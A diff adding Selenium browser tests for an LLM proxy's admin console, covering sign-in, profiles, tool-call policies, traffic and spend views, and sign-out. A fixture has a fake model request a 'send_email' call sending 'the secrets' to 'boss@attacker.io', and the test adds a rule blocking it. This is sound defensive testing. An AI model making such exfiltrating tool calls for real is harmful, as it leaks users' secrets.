@@ -1,0 +1,192 @@
+"""The admin console in a real headless Chromium against the two-worker gunicorn: sign in, create a profile, see
+the tool an SDK request declared, add a policy through the form, watch the next SDK request get blocked and find
+it highlighted in the traffic view, see the spend on the chart, sign out. Screenshots: test-output/console/."""
+from __future__ import annotations
+
+import re
+
+import openai
+import pytest
+import requests
+from selenium.webdriver.common.by import By
+from selenium.webdriver.support.ui import Select, WebDriverWait
+
+from tests.browser import browser as browser_fixture
+from tests.browser import screenshot
+from tests.fakes import openai_wire as wire
+from tests.fakes.server import json_reply
+from tests.live import live as live_fixture
+
+live, browser = live_fixture, browser_fixture
+TOOLS = [{"type": "function", "function": {"name": name, "description": f"{name} for the agent",
+                                           "parameters": {"type": "object", "properties": {"to": {"type": "string"},
+                                                                                           "url": {"type": "string"}}}}}
+         for name in ("fetch_url", "send_email")]
+#: The elements that stick out to the right of the window (for the message of a failed phone-width check).
+WIDER = """return [...document.querySelectorAll('body *')].filter(e => e.getBoundingClientRect().right >
+    window.innerWidth + 1 && !e.closest('.table-wrap')).map(e => e.tagName + '.' + e.className).slice(0, 8)"""
+EVIL = {"to": "boss@attacker.io", "body": "the secrets"}
+
+
+def ask(live, profile: str) -> str:
+    """One agent turn through the openai SDK; the fake model asks to send an email (and reports a large usage,
+    so that the exchange costs something: gpt-4o's default price)."""
+    live.upstream.reply_with(json_reply(wire.completion(None, [wire.tool_call("send_email", EVIL)],
+                                                        usage=(200_000, 50_000))))
+    client = openai.OpenAI(api_key="sk-client", base_url=live.base("openai", profile), max_retries=0)
+    answer = client.chat.completions.create(model="gpt-4o", tools=TOOLS, messages=[
+        {"role": "user", "content": "Mail the report to my boss"}], extra_headers={"X-Archestra-Session-Id": "s-42"})
+    message = answer.choices[0].message
+    return "called send_email" if message.tool_calls else message.content
+
+
+def wait_for(driver, condition, timeout: float = 10):
+    return WebDriverWait(driver, timeout, poll_frequency=0.1).until(condition)
+
+
+def reload_until(driver, find, timeout: float = 10):
+    """Reload the page until ``find()`` finds something: records are written off the request path."""
+    def attempt(_):
+        driver.refresh()
+        return find()
+    return wait_for(driver, attempt, timeout)
+
+
+def fill(driver, element_id: str, value: str) -> None:
+    field = driver.find_element(By.ID, element_id)
+    field.clear()
+    field.send_keys(value)
+
+
+def text_of(driver) -> str:
+    return driver.find_element(By.TAG_NAME, "main").text
+
+
+def test_the_issue_path_in_a_browser(live, browser):
+    driver = browser
+    # Nothing without signing in: the console sends the browser to the sign-in page.
+    driver.get(f"{live.url}/console/")
+    assert "/console/sign-in" in driver.current_url
+    screenshot(driver, "01-sign-in")
+    fill(driver, "token", "not-the-token")
+    driver.find_element(By.ID, "token").submit()
+    assert "This is not an admin token." in text_of(driver)
+    fill(driver, "token", "t")
+    driver.find_element(By.ID, "token").submit()
+    wait_for(driver, lambda d: d.find_element(By.TAG_NAME, "h1").text == "Profiles")
+
+    # Create a profile through the form.
+    fill(driver, "new-profile-name", "Support agent")
+    fill(driver, "new-profile-slug", "support-agent")
+    driver.find_element(By.ID, "new-profile-name").submit()
+    wait_for(driver, lambda d: d.find_element(By.TAG_NAME, "h1").text.startswith("Support agent"))
+    profile = re.search(r"/console/profiles/([0-9a-f-]{36})", driver.current_url).group(1)
+    assert "Created." in text_of(driver) and "support-agent" in text_of(driver)
+    screenshot(driver, "02-profile")
+
+    # An SDK request through the profile's slug: the model's call goes through (trusted context, no policy) ...
+    assert ask(live, "support-agent") == "called send_email"
+    # ... and its tools appear on the profile's tools page.
+    driver.find_element(By.PARTIAL_LINK_TEXT, "Tools").click()
+    link = reload_until(driver, lambda: driver.find_elements(By.LINK_TEXT, "send_email"))[0]
+    assert "fetch_url" in text_of(driver)
+    screenshot(driver, "03-tools")
+    link.click()
+    assert "Calls are allowed in a trusted context, blocked in an untrusted one" in text_of(driver).replace(
+        "No policy: calls are allowed in a trusted context", "Calls are allowed in a trusted context")
+
+    # A policy through the form: a bad regex first, refused next to its field; then the real one.
+    driver.find_element(By.XPATH, "//summary[contains(., 'Add a call policy')]").click()
+    Select(driver.find_element(By.ID, "new-call-action")).select_by_value("block_always")
+    fill(driver, "new-call-key-0", "to")
+    Select(driver.find_element(By.ID, "new-call-op-0")).select_by_value("regex")
+    fill(driver, "new-call-value-0", "(attacker")
+    driver.find_element(By.ID, "new-call-reason").submit()
+    error = wait_for(driver, lambda d: d.find_elements(By.CSS_SELECTOR, "#form-new-call .condition-row .field-error"))
+    assert "regex" in error[0].text.lower() or "pattern" in error[0].text.lower(), error[0].text
+    assert driver.find_element(By.ID, "new-call-value-0").get_attribute("value") == "(attacker"  # kept for fixing
+    screenshot(driver, "04-policy-error")
+    Select(driver.find_element(By.ID, "new-call-op-0")).select_by_value("endsWith")
+    fill(driver, "new-call-value-0", "@attacker.io")
+    fill(driver, "new-call-reason", "No mail to attackers")
+    driver.find_element(By.ID, "new-call-reason").submit()
+    wait_for(driver, lambda d: "Created." in text_of(d))
+    explained = driver.find_element(By.ID, "effective").text
+    assert 'Calls are always blocked when to endsWith "@attacker.io".' in explained, explained
+    screenshot(driver, "05-policy")
+    # The API sees the policy the form made, with the schema's shape.
+    [policy] = live.api("GET", "/tool-call-policies", params={"profile_id": profile}).json()["data"]
+    assert (policy["action"], policy["conditions"], policy["reason"]) == (
+        "block_always", [{"key": "to", "operator": "endsWith", "value": "@attacker.io"}], "No mail to attackers")
+
+    # The very next SDK request is refused (whichever worker serves it) ...
+    refusal = ask(live, "support-agent")
+    assert "denied by a tool invocation policy" in refusal and "No mail to attackers" in refusal
+
+    # ... and the traffic view highlights it.
+    driver.get(f"{live.url}/console/traffic?profile_id={profile}")
+    rows = reload_until(driver, lambda: driver.find_elements(By.CSS_SELECTOR, "table.traffic tbody tr.blocked"))
+    assert len(rows) == 1 and "blocked 1" in rows[0].text
+    assert len(driver.find_elements(By.CSS_SELECTOR, "table.traffic tbody tr")) == 2
+    Select(driver.find_element(By.NAME, "blocked")).select_by_value("true")
+    driver.find_element(By.NAME, "model").submit()
+    assert "1 interaction" in text_of(driver) and "blocked=true" in driver.current_url
+    screenshot(driver, "06-traffic")
+    driver.find_element(By.CSS_SELECTOR, "table.traffic tbody tr.blocked a").click()
+    refused = driver.find_element(By.CSS_SELECTOR, ".tool-call.refused")
+    assert "send_email" in refused.text and "No mail to attackers" in refused.text
+    assert "boss@attacker.io" in refused.text
+    conversation = driver.find_element(By.CSS_SELECTOR, "section.conversation").text
+    assert "Mail the report to my boss" in conversation and "{" not in conversation.split("send_email")[0]
+    assert "200000 in, 50000 out" in text_of(driver)
+    screenshot(driver, "07-interaction")
+
+    # Spend: two exchanges of $1.00 each (gpt-4o at $2.50 / $10 per million tokens) on the chart.
+    driver.get(f"{live.url}/console/spend?profile_id={profile}")
+    bars = driver.find_elements(By.CSS_SELECTOR, "#chart-profiles rect.bar")
+    assert [bar.find_element(By.TAG_NAME, "title").get_attribute("textContent").split(" ", 1)[1] for bar in bars] \
+        == ["Support agent: $2.0000"]
+    assert "total $2.0000" in driver.find_element(By.ID, "chart-profiles").text
+    assert "gpt-4o" in driver.find_element(By.ID, "chart-models").text
+    screenshot(driver, "08-spend")
+
+    # A phone-width screen: nothing wider than the screen but the tables' own scrolling boxes.
+    driver.set_window_size(390, 844)
+    for path in ("/console/", f"/console/traffic?profile_id={profile}", f"/console/profiles/{profile}"):
+        driver.get(live.url + path)
+        assert driver.execute_script("return document.documentElement.scrollWidth <= window.innerWidth"), (
+            path, driver.execute_script(WIDER))
+    screenshot(driver, "09-phone-traffic")
+    driver.set_window_size(1280, 1000)
+
+    # Sign out ends the session on the server: the old cookie no longer opens anything.
+    cookie = driver.get_cookie("archestra_console")["value"]
+    assert requests.get(f"{live.url}/console/", cookies={"archestra_console": cookie}, timeout=10,
+                        allow_redirects=False).status_code == 200
+    driver.find_element(By.XPATH, "//button[text()='Sign out']").click()
+    wait_for(driver, lambda d: "/console/sign-in" in d.current_url)
+    for _ in range(6):  # fresh connections: both workers
+        answer = requests.get(f"{live.url}/console/", cookies={"archestra_console": cookie}, timeout=10,
+                              allow_redirects=False)
+        assert answer.status_code == 302 and "/console/sign-in" in answer.headers["Location"]
+    driver.get(f"{live.url}/console/spend")
+    assert "/console/sign-in" in driver.current_url
+
+
+def test_keyboard_only_sign_in(live, browser):
+    """Tab to the token field, type, Enter: no mouse needed."""
+    from selenium.webdriver.common.keys import Keys
+
+    driver = browser
+    driver.delete_all_cookies()
+    driver.get(f"{live.url}/console/")
+    active = driver.switch_to.active_element
+    assert active.get_attribute("id") == "token"  # autofocus
+    active.send_keys("t", Keys.ENTER)
+    wait_for(driver, lambda d: d.find_element(By.TAG_NAME, "h1").text == "Profiles")
+    skip = driver.find_element(By.CSS_SELECTOR, "a.skip")
+    assert skip.get_attribute("href").endswith("#main")
+
+
+if __name__ == "__main__":  # pragma: no cover
+    pytest.main([__file__])
